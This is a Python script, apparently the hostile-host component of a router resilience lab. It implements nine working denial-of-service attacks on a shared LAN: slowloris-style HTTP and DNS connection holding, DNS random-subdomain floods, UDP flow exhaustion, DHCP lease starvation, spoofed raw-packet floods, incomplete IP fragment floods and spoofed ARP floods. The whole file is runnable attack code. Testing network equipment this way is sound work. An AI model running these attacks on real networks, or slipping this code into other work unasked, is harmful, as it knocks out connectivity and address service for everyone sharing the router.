"""A PC that means harm to those who share its router: `python3 attacker.py HOW TARGET SECONDS COUNT` on one of the lab.

It prints one line of JSON (what it has got hold of) when it is at full force, and goes on for SECONDS.
"""

import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress

Attack = Callable[[str, float, int], None]


def _tell(**got: int) -> None:
    print(json.dumps(got), flush=True)


def _slow(port: int, said: bytes) -> Attack:
    """Connections that say the beginning of a request and then a little more at times; one that ends is replaced."""

    def attack(target: str, seconds: float, count: int) -> None:
        held: list[socket.socket] = []
        end, told = time.monotonic() + seconds, False
        while time.monotonic() < end:
            held = [one for one in held if _sent(one, said[:1])]
            while len(held) < count and (fresh := _begun(target, port, said)):
                held.append(fresh)
            if not told:
                _tell(held=len(held))
                told = True
            time.sleep(0.3)

    return attack


def _sent(one: socket.socket, said: bytes) -> bool:
    with suppress(OSError):
        return one.send(said) > 0
    return False


def _begun(target: str, port: int, said: bytes) -> socket.socket | None:
    """A connection with the beginning of a request in it; None if it does not come about in time."""
    try:
        one = socket.create_connection((target, port), timeout=0.3)
    except OSError:
        return None
    return one if _sent(one, said) else None


def _query(number: int, name: str) -> bytes:
    """A DNS question for the address of a name (RFC 1035)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)


def names(target: str, seconds: float, count: int) -> None:
    """Ask `count` times a second for names that nobody has asked for before."""
    asking = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(50)]
    end, sent, began = time.monotonic() + seconds, 0, time.monotonic()
    while time.monotonic() < end:
        while sent < (time.monotonic() - began) * count:
            with suppress(OSError):
                asking[sent % 50].sendto(_query(sent & 0xFFFF, f"unanswered.n{sent}-{os.getpid()}.test"), (target, 53))
            sent += 1
            if sent == count:
                _tell(sent=sent)
        time.sleep(0.01)


def flows(target: str, seconds: float, count: int) -> None:
    """Begin `count` flows as fast as it goes, each a datagram from and to ports of its own, then begin them anew."""
    sending = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(100)]
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with suppress(OSError):
            sending[sent % 100].sendto(b"x", (target, 1024 + sent // 100 % (count // 100)))
        sent += 1
        if sent == count:
            _tell(sent=sent)


def _leases(*, of: bool) -> Attack:
    """Ask for `count` leases, each for another Ethernet address, and take what is offered (RFC 2131).

    `of` a network that the target is in, by link selection (RFC 3527) and subnet selection (RFC 3011).
    """

    def attack(target: str, seconds: float, count: int) -> None:
        network = socket.inet_aton(target)
        wish = b"\x52\6\5\4" + network + b"\x76\4" + network if of else b""
        taken: set[bytes] = set()
        end, told, number = time.monotonic() + seconds, False, 0
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
            client.bind(("0.0.0.0", 68))
            client.settimeout(0)
            while time.monotonic() < end:
                if number < count:
                    client.sendto(_dhcp(number, b"\x35\1\1" + wish), ("255.255.255.255", 67))
                    number += 1
                _take(client, wish, taken)
                if not told and time.monotonic() > end - seconds / 2:
                    _tell(taken=len(taken))
                    told = True

    return attack


def _dhcp(number: int, options: bytes) -> bytes:
    header = struct.pack("!4BIHH", 1, 1, 6, 0, number, 0, 0x8000) + bytes(16)
    mac = b"\x02\x66" + struct.pack("!I", number)
    return header + mac + bytes(10 + 192) + b"\x63\x82\x53\x63" + options + b"\xff"


def _take(client: socket.socket, wish: bytes, taken: set[bytes]) -> None:
    time.sleep(0.005)
    with suppress(BlockingIOError):
        while True:
            said = client.recv(1500)
            number, offered, server = struct.unpack_from("!I", said, 4)[0], said[16:20], said[243:249]
            if said[242] == 2:  # an offer: ask for it
                client.sendto(_dhcp(number, b"\x35\1\3\x32\4" + offered + server + wish), ("255.255.255.255", 67))
            elif said[242] == 5:
                taken.add(offered)


def _own_prefix() -> str:
    """The first three octets of this PC's address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.connect(("10.255.0.40", 9))
        return str(asking.getsockname()[0]).rpartition(".")[0]


def _packet(source: str, target: str, protocol: int, body: bytes = b"", *, number: int = 0, flags: int = 0) -> bytes:
    """An IPv4 packet (RFC 791); the kernel adds its length and checksum."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, number, flags, 64, protocol, 0) + ends + body


def portless(target: str, seconds: float, count: int) -> None:
    """Begin `count` flows of protocols without ports, in the names of all the LAN's addresses, 1,500 a second."""
    prefix, inside = _own_prefix(), target.rpartition(".")[0]
    began, end, sent = time.monotonic(), time.monotonic() + seconds, 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        while time.monotonic() < end:
            while sent < min(count, (time.monotonic() - began) * 1500):
                source, to = f"{prefix}.{10 + sent % 200}", f"{inside}.{1 + sent // 200 % 250}"
                wire.sendto(_packet(source, to, 253), (to, 0))  # for experiments (RFC 3692)
                sent += 1
                if sent == count:
                    _tell(sent=sent)
            time.sleep(0.01)


def fragments(target: str, seconds: float, count: int) -> None:
    """Send the first pieces of `count` datagrams a second, and never the rest."""
    began, end, sent = time.monotonic(), time.monotonic() + seconds, 0
    source, more = f"{_own_prefix()}.99", 0x2000
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        while time.monotonic() < end:
            while sent < (time.monotonic() - began) * count:
                sent += 1
                piece = _packet(source, target, socket.IPPROTO_UDP, bytes(1400), number=1 + sent % 65_000, flags=more)
                wire.sendto(piece, (target, 0))
                if sent == count:
                    _tell(sent=sent)
            time.sleep(0.01)


def neighbours(target: str, seconds: float, count: int) -> None:
    """Ask for an address by ARP (`INTERFACE,ADDRESS`) in the names of `count` others, from 198.18.0.0 (RFC 2544) on."""
    del seconds
    interface, _, address = target.partition(",")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        mac = wire.getsockname()[4]
        for number in range(count):
            asking = mac + struct.pack("!I", 0xC6120000 + number) + bytes(6) + socket.inet_aton(address)
            wire.send(b"\xff" * 6 + mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + asking)
    _tell(sent=count)


ATTACKS: dict[str, Attack] = {
    "slow-http": _slow(80, b"GET /flex.pac HTTP/1.1\r\nHost: pac\r\nX-Slow: "),
    "slow-dns": _slow(53, b"\0\x40\0"),
    "names": names,
    "flows": flows,
    "leases": _leases(of=False),
    "leases-of": _leases(of=True),
    "portless": portless,
    "fragments": fragments,
    "neighbours": neighbours,
}

if __name__ == "__main__":
    how, target, seconds, count = sys.argv[1:]
    ATTACKS[how](target, float(seconds), int(count))
